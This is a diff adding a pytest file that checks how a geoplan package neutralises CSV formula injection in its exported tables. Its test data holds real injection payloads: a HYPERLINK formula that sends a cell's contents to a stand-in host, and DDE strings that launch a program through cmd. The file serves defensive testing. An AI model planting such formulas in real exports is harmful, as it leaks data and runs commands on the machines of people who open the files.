@@ -1,0 +1,133 @@
+"""CSV injection (issue 11, item 8): text cells a spreadsheet would run as a formula get a
+leading ``'`` in every CSV geoplan writes; numbers and the GeoPackage keep raw values.
+
+The files are read back with the :mod:`csv` module, so the test sees the cells as a
+spreadsheet would receive them (no pandas type guessing).
+"""
+
+from __future__ import annotations
+
+import csv
+import math
+from pathlib import Path
+
+import geopandas as gpd
+import pandas as pd
+import pytest
+from conftest import X0, Y0, gk
+from shapely import Point, box
+
+import geoplan
+from geoplan.csvsafe import csv_safe_frame, neutralise_cell
+
+EVIL = {
+    "eq": '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def _rows(path: Path) -> list[dict[str, str]]:
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [("=1+1", "'=1+1"), ("+1", "+1"), ("+86 139 0000", "'+86 139 0000"), ("-2+3", "'-2+3"),
+     ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1.5", "-1.5"),
+     ("-1.5e3", "-1.5e3"), ("+.5", "+.5"), ("-1.5abc", "'-1.5abc"), (" =1", " =1"),
+     ("a=1", "a=1"), ("", ""), ("一级", "一级"), ("'=1", "'=1")],
+)
+def test_neutralise_cell_text(value: str, expected: str) -> None:
+    assert neutralise_cell(value) == expected
+
+
+@pytest.mark.parametrize("value", [-1.5, -3, None, True, float("nan")])
+def test_neutralise_cell_leaves_non_text_alone(value) -> None:
+    got = neutralise_cell(value)
+    assert got is value or (isinstance(value, float) and math.isnan(got))
+
+
+def test_frame_numeric_columns_untouched_and_names_neutralised() -> None:
+    df = pd.DataFrame({"=name": ["=A1", "ok"], "measure": [-1.5, 2.0],
+                       "mixed": [-4, "-4+1"], "n": pd.array([-1, 2], dtype="Int64")})
+    out = csv_safe_frame(df)
+    assert list(out.columns) == ["'=name", "measure", "mixed", "n"]
+    assert out["'=name"].tolist() == ["'=A1", "ok"]
+    assert out["measure"].tolist() == [-1.5, 2.0]
+    assert out["mixed"].tolist() == [-4, "'-4+1"]
+    assert out["n"].dtype == "Int64"
+    assert df["=name"].tolist() == ["=A1", "ok"]  # the input is not changed
+
+
+@pytest.fixture
+def evil_sites() -> gpd.GeoDataFrame:
+    """Two houses: one 2 m into the flood square (fail), one far away (pass)."""
+    return gk([box(X0 + 10, Y0 - 8, X0 + 20, Y0 + 2), Point(X0 + 1500, Y0 + 1500)],
+              house_id=["=H1", "-7"], owner=[EVIL["eq"], "张三"], note=[EVIL["at"], EVIL["tab"]],
+              parcel=[EVIL["minus"], EVIL["cr"]], level=["-1.5", EVIL["plus"]],
+              elevation=[-1.5, 3.0], **{"=cmd": ["x", "y"]})
+
+
+def _check_csvs(out: Path) -> None:
+    v = {r["house_id"]: r for r in _rows(out / "verdicts.csv")}
+    assert set(v) == {"'=H1", "-7"}  # "-7" is a plain number: kept
+    h1, h2 = v["'=H1"], v["-7"]
+    assert h1["owner"] == "'" + EVIL["eq"]
+    assert h1["note"] == "'" + EVIL["at"]
+    assert h2["note"] == "'" + EVIL["tab"]
+    assert h1["parcel"] == "'" + EVIL["minus"]
+    assert h2["parcel"] == "'" + EVIL["cr"]
+    assert h2["level"] == "'" + EVIL["plus"]
+    assert h1["level"] == "-1.5"
+    assert h1["elevation"] == "-1.5"  # a numeric column: the number, untouched
+    assert h2["owner"] == "张三"
+    assert "'=cmd" in h1  # a column name is a cell too
+    f = _rows(out / "findings.csv")
+    assert {r["site_id"] for r in f} == {"'=H1", "-7"}
+    flood = next(r for r in f if r["site_id"] == "'=H1" and r["rule_id"] == "house.flood_zone")
+    assert flood["status"] == "fail"
+    assert float(flood["measure"]) == pytest.approx(20.0)  # 10 m × 2 m inside the square
+
+
+def test_findings_and_verdicts_csv_are_neutralised_gpkg_is_raw(
+        tmp_path: Path, small_workspace: Path, evil_sites: gpd.GeoDataFrame) -> None:
+    out = tmp_path / "out"
+    geoplan.check(evil_sites, small_workspace, id_field="house_id").to_files(out, map_html=False,
+                                                                             report_html=False)
+    _check_csvs(out)
+    raw = gpd.read_file(out / "results.gpkg", layer="verdicts")
+    row = raw.set_index("house_id").loc["=H1"]
+    assert row["owner"] == EVIL["eq"]
+    assert row["parcel"] == EVIL["minus"]
+    assert "=cmd" in raw.columns
+    fnd = gpd.read_file(out / "results.gpkg", layer="findings")
+    assert "=H1" in set(fnd["site_id"])
+
+
+def test_chunked_writer_neutralises_the_same_way(tmp_path: Path, small_workspace: Path,
+                                                 evil_sites: gpd.GeoDataFrame) -> None:
+    from geoplan.scale import check_to_files
+
+    whole, chunked = tmp_path / "whole", tmp_path / "chunked"
+    geoplan.check(evil_sites, small_workspace, id_field="house_id").to_files(
+        whole, map_html=False, report_html=False)
+    check_to_files(evil_sites, small_workspace, chunked, chunk_size=1, id_field="house_id")
+    _check_csvs(chunked)
+    for name in ("findings.csv", "verdicts.csv"):
+        assert (chunked / name).read_bytes() == (whole / name).read_bytes(), name
+
+
+def test_analysis_csv_is_neutralised(tmp_path: Path) -> None:
+    from geoplan.analysis._output import write_outputs
+
+    table = pd.DataFrame({"village": [EVIL["eq"], "巴彦岱村"], "gap_m": [-2.5, 10.0]})
+    write_outputs(tmp_path / "out", csv={"t.csv": table}, summary={"n": 2})
+    rows = _rows(tmp_path / "out" / "t.csv")
+    assert rows[0]["village"] == "'" + EVIL["eq"]
+    assert rows[0]["gap_m"] == "-2.5"
+    assert rows[1]["village"] == "巴彦岱村"
